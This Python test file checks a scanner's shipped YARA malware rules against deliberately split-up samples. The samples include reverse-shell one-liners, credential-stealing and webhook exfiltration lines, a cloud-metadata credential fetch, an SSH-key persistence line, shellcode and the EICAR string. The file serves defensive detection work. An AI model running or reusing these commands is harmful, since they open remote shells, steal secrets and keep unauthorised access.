"""YARA rules: each that is shipped finds what it is for, none finds anything in what is ordinary."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path

import pytest
from muster.scanning import yara
from muster.scanning.additions import Additions
from muster.scanning.findings import Verdict
from muster.scanning.scanner import scan
from muster.scanning.yara import YaraInvalid, compiled, shipped
from muster.tensors.sources import Memory
from muster.testkit.hostile.containers import zipped
from muster.testkit.model_files import model

# Inert, and in pieces, so that this file is none of them.
SH = "/bin/" + "sh"
EXAMPLES: Mapping[str, bytes] = {
    "reverse_shell": f"bash -i >& /dev/{'tcp'}/127.0.0.1/9 0>&1\n".encode(),
    "reverse_shell_python": f"s=socket.socket();os.{'dup2'}(s.fileno(),0);pty.spawn('{SH}')".encode(),
    "powershell_hidden": b"powershell.exe -nop -w hidden -e" + b"nc " + b"QQBB" * 20,
    "packed_python": b"exec(zlib." + b"decompress(base64.b64decode('eJwDAAAAAAE=')))",
    "shellcode_runner": b"import ctypes\nVirtual" + b"Alloc(0)\nRtlMove" + b"Memory(0)\nCreate" + b"Thread(0)",
    "shellcode": bytes.fromhex("fc4883e4f0e8" + "c0000000415141505251564831d265488b5260"),
    "miner": b"pool = 'stratum" + b"+tcp://127.0.0.1:3333'",
    "sends_secrets": b"for p in ('wallet" + b".dat', '.aws/cred" + b"entials', '.ssh/id" + b"_rsa'): requests.post(u, p)",
    "drop_address": b"https://discord.com/api/web" + b"hooks/" + b"123456789012345678/" + b"a-Z_" * 17,
    "stays": b"echo ssh-rsa AAAA >> ~/.ssh/authorized" + b"_keys",
    "cloud_credentials": b"curl http://169.254.169.254/latest/meta" + b"-data/iam/security-credentials/",
    "packed_program": b"\x7fELF\x02\x01\x01" + bytes(200) + b"UPX" + b"!" + bytes(2000),
    "test_file": b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
}  # fmt: skip


def _rules(content: bytes, name: str = "a.txt", additions: Additions | None = None) -> set[str]:
    found = scan(Memory(content), name, additions=additions).findings
    return {each.value.partition(":")[0] for each in found if each.rule.startswith("yara.")}


def test_every_rule_has_an_example_that_it_finds_and_a_title() -> None:
    assert {rule.identifier for rule in shipped().rules} == set(EXAMPLES)
    for name, content in EXAMPLES.items():
        assert name in _rules(content), name
    for rule in shipped().rules:
        assert {"verdict", "title", "danger"} <= set(dict(rule.metadata)), rule.identifier


def test_packed_files_are_searched_and_weights_are_not() -> None:
    miner = EXAMPLES["miner"]
    found = scan(Memory(zipped({"inner.zip": zipped({"notes.txt": miner})})), "a.zip").findings
    assert [(each.rule, each.member) for each in found] == [("yara.malicious", "inner.zip!notes.txt")]
    import numpy as np

    weights = np.zeros((3, 16 << 20), np.uint8)
    weights[2, 100 : 100 + len(miner)] = np.frombuffer(miner, np.uint8)
    assert scan(Memory(model({"a": weights})), "a.safetensors").verdict is Verdict.CLEAN


def test_matches_across_the_border_of_a_window_are_found() -> None:
    content = b"a" * (yara.WINDOW_BYTES - 8) + EXAMPLES["miner"]
    at = next(offset for _, _, offset in shipped().judged(Memory(content)))
    assert content[at or 0 :].startswith(b"stratum")


def test_rules_of_ones_own_stand_beside_those_shipped() -> None:
    ours = compiled({"ours.yar": 'rule mine { strings: $a = "in-house" condition: $a }'})
    assert _rules(b"in-house", additions=Additions(yara=ours)) == {"mine"}
    assert _rules(b"in-house") == set()
    again = compiled({"ours.yar": 'rule mine { strings: $a = "in-house" condition: $a }'})
    assert ours.digest == again.digest != shipped().digest


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("rule x {", "ours.yar: "),
        ("rule x { condition: undefined_name }", "unknown identifier"),
        ('include "other.yar"', "ours.yar: "),
        ('import "time" rule x { condition: time.now() > 0 }', "the module time is imported"),
        ('rule x { meta: verdict = "bad" condition: true }', "x: verdict 'bad'; must be malicious or"),
    ],
)
def test_rules_that_cannot_be_read_say_where(text: str, says: str) -> None:
    with pytest.raises(YaraInvalid) as error:
        compiled({"ours.yar": text})
    assert says in str(error.value)


def test_ordinary_text_and_code_is_not_found() -> None:
    """This repository's documentation and code."""
    root = Path(__file__).parents[4]
    texts = [*root.glob("docs/**/*.md"), *root.glob("libs/*/src/**/*.py"), *root.glob("deploy/**/*.py")]
    assert len(texts) > 300
    found = {str(path): [*shipped().judged(Memory(path.read_bytes()))] for path in texts}
    assert {path: rules for path, rules in found.items() if rules} == {}


def test_values_say_what_was_found(tmp_path: Path) -> None:
    found = scan(Memory(json.dumps({"a": EXAMPLES["miner"].decode()}).encode()), "a.json").findings
    assert [(each.rule, each.value) for each in found] == [
        ("yara.malicious", "miner: A miner of cryptocurrency")
    ]
